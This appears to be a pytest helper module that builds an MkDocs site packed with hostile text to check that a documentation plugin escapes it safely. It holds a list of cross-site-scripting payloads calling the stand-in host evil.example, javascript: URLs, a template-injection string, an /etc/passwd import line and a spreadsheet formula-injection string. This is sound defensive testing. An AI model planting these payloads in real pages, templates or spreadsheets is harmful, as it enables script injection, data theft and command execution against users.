"""One project with hostile text in every field: of the record, of mkdocs.yml, of the pages, and in names of files."""

import shutil
from pathlib import Path

import pytest

from conftest import ROOT, Build, built_once

SITES = ROOT / "tests" / "sites" / "valid"
OUT = "evil.example"
"""Where the payloads want to go: nobody may ever be asked for it."""

PAYLOADS = (
    f"<script>fetch('//{OUT}/a')</script>",
    f"<img src=//{OUT}/b onerror=alert()>",
    f"\"><svg onload=alert()><image href=//{OUT}/c></svg>",
    f"'><meta http-equiv=refresh content='0;url=//{OUT}/d'>",
    f"</title></style></textarea><iframe src=//{OUT}/e></iframe>",
    "javascript:alert()",
    f"<base href=//{OUT}/f><link rel=stylesheet href=//{OUT}/f.css>",
    f"<a href='javascript:alert()' style='background:url(//{OUT}/g)' onfocus=alert() autofocus>x</a>",
    "]]><!--<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert()</x:script>",
    "{{ cycler.__init__.__globals__ }} {% raw %} {# #}",
    f"![](//{OUT}/h) [x](javascript:alert) `code` *a* <u>",
    "#eval(\"panic()\") $ #{ ] \\ \" #import \"//etc/passwd\": *",
    f"&lt;script&gt;alert()&lt;/script&gt; &#60;img src=//{OUT}/i onerror=alert()&#62;",
    "</script><script>alert()</script>",
    "=HYPERLINK(\"//evil.example/j\") @SUM() +cmd|calc",
)  # fmt: skip

_MACROS = (
    "abbreviations_table changes claim colophon command_chart command_list cover editions_list entity_index grades_table "
    "judgements key_figures kinds_table members_map members_table members_tally others_named people_table positions_table "
    "posts_table question_cards question_list question_summary scales_table sources_table tasks_by_domain timeline_chart "
    "timeline_list whats_new"
).split()


def _quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def payloads() -> str:
    """All of them in one text."""
    return " ".join(PAYLOADS)


def hostile_built(factory: pytest.TempPathFactory) -> Build:
    """Once for all that look at it."""
    return built_once(factory, "hostile", hostile_project, BRIEFBOOK_TEXTS="texts")


def hostile_project(root: Path) -> Path:
    """Complete, and clean by the checks: what is hostile is text, and text is allowed."""
    shutil.copytree(SITES / "minimal", root)
    shutil.copytree(SITES / "hostile", root, dirs_exist_ok=True)
    (root / "mkdocs.yml").write_text(_config(), encoding="utf-8")
    named = {"claim": "'extra'"}
    calls = "\n\n".join(f"{{{{ {macro}({named.get(macro, '')}) }}}}" for macro in _MACROS)
    for number, payload in enumerate(PAYLOADS[:4]):
        front = (
            f"---\ntitle: {_quoted(payload)}\ndescription: {_quoted(PAYLOADS[number + 4])}\nreference: [Evil]\n---\n"
        )
        (root / "docs" / f"page-{number}.md").write_text(f"{front}\n# A heading\n\nWords.\n", encoding="utf-8")
    (root / "docs" / "index.md").write_text("# The first\n\n{{ cover() }}\n", encoding="utf-8")
    (root / "docs" / "everything.md").write_text(f"# All of it\n\n{calls}\n", encoding="utf-8")
    for page in ("questions.md", "sources.md", "members.md", "command.md", "changes.md", "editions.md", "timeline.md"):
        (root / "docs" / page).write_text("# A page\n\nWords.\n", encoding="utf-8")
    return root


def _config() -> str:
    options = {
        "publisher": payloads(),
        "number": PAYLOADS[1],
        "licence": PAYLOADS[2],
        "contact": "javascript:alert()//@evil.example",
        "imprint": f"https://{OUT}/?'\"><script>alert()</script>",
    }
    lines = [
        f"site_name: {_quoted('A small briefing ' + payloads())}",
        f"site_description: {_quoted(payloads())}",
        f"site_author: {_quoted(PAYLOADS[3])}",
        f"copyright: {_quoted('Ours')}",
        "site_url: https://briefing.example/",
        "use_directory_urls: false",
        "theme: {name: material, font: false, features: [navigation.prune, search.suggest]}",
        "extra: {generator: false}",
        "plugins:",
        "  - search",
        "  - briefbook:",
        *(f"      {key}: {_quoted(value)}" for key, value in options.items()),
        "nav:",
        f"  - {_quoted('Front ' + PAYLOADS[3])}: index.md",
        "  - everything.md",
        *(f"  - page-{number}.md" for number in range(4)),
        f"  - {_quoted(PAYLOADS[0])}:",
        "      - questions.md",
        "      - sources.md",
    ]
    return "\n".join(lines) + "\n"
